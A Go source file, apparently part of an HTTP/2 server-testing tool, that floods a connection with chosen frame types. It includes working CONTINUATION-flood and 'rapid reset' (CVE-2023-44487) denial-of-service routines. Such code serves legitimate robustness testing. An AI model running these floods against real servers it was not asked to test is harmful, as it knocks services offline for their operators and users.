package main

import (
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

// flood writes Count frames as fast as the server takes them, no more than Window of them ahead of what it acknowledged. It
// stops when the connection is over, which is no failure.
func (c *connection) flood(s step) error {
	send, err := c.flooder(s)
	if err != nil {
		return err
	}
	put := c.queue
	if s.Window > 0 {
		put = c.write
	}
	before := c.acks()
	for i := range s.Count {
		err := put(func() error { return send(i) })
		if err != nil || c.isClosed() {
			c.await(func() bool { return false })
			return nil
		}
		c.note(func() { c.got.Sent++ })
		if s.Window > 0 {
			c.await(func() bool { return before+c.got.Sent-c.got.PingAcks-c.got.SettingsAcks < s.Window })
		}
	}
	return c.write(func() error { return nil })
}

func (c *connection) acks() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.got.PingAcks + c.got.SettingsAcks
}

func (c *connection) flooder(s step) (func(i int) error, error) {
	switch s.Frame {
	case "ping":
		return func(int) error { return c.framer.WritePing(false, [8]byte{}) }, nil
	case "settings":
		return func(int) error { return c.framer.WriteSettings() }, nil
	case "continuation":
		return c.continuations(s), nil
	case "reset":
		return c.resets(s), nil
	case "data":
		return func(int) error { return c.framer.WriteData(s.Stream, false, nil) }, nil
	case "window":
		return func(int) error { return c.framer.WriteWindowUpdate(s.Stream, 1) }, nil
	default:
		return nil, fmt.Errorf("unknown frame %q", s.Frame)
	}
}

// continuations sends HEADERS and then CONTINUATION frames of one field each, and never END_HEADERS.
func (c *connection) continuations(s step) func(i int) error {
	const name, size = "x-more", 1024
	// Literal, never indexed, no Huffman coding (RFC 7541 section 6.2.3): each is as long on the wire as it says.
	more := append([]byte{0x10, byte(len(name))}, name...)
	more = hpackLength(more, size)
	more = append(more, strings.Repeat("m", size)...)
	return func(i int) error {
		if i > 0 {
			return c.framer.WriteContinuation(s.Stream, false, more)
		}
		block, err := c.block.encode(s.Fields)
		if err != nil {
			return err
		}
		return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.Stream, BlockFragment: block})
	}
}

// resets opens a stream and takes it back at once, from Stream on (CVE-2023-44487).
func (c *connection) resets(s step) func(i int) error {
	return func(i int) error {
		id := s.Stream + 2*uint32(i)
		block, err := c.block.encode(s.Fields)
		if err != nil {
			return err
		}
		err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err != nil {
			return err
		}
		return c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}
}

// hpackLength appends a string's length (RFC 7541 section 5.1, a prefix of seven bits).
func hpackLength(to []byte, n int) []byte {
	if n < 127 {
		return append(to, byte(n))
	}
	to = append(to, 127)
	for n -= 127; n >= 128; n /= 128 {
		to = append(to, byte(n%128)|128)
	}
	return append(to, byte(n))
}
